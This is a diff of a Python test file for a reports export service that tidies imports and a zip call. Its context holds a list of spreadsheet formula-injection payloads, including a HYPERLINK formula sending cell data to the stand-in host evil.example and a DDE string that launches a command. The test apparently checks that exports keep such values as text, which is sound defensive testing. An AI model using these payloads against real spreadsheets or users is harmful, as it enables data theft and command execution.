@@ -7,7 +7,6 @@ import base64
 import csv
 import io
 from datetime import date
-from decimal import Decimal
 
 import openpyxl
 import pytest
@@ -19,9 +18,8 @@ from services.reports.domain.periods import kz_today
 from services.reports.domain.templates import FieldSpec, Template
 from services.reports.service_layer import analytics, reports, templates
 from services.reports.service_layer.collection import LOOKBACK_DAYS
-
 from tests.support import COORDINATOR
-from tests.unit.reports.conftest import KGU_61, mediation_template
+from tests.unit.reports.conftest import mediation_template
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+SUM(1,2)",
             "@SUM(1+1)", "-2+3", "\tTAB", "\rCR"]
@@ -158,7 +156,7 @@ def test_exports_show_formula_like_text_as_text_and_numbers_as_numbers(uow, coll
 
     rows, texts = national_rows(uow)
     assert all(cell.data_type == "s" for cell in texts)  # string cells, never formulas
-    for row, label in zip(rows, FORMULAS):
+    for row, label in zip(rows, FORMULAS, strict=False):
         assert row[1].data_type == "s"
         assert row[1].value.strip() == label.strip()  # XML keeps a lone CR as a line feed
     f0, loss = rows[0], rows[-1]
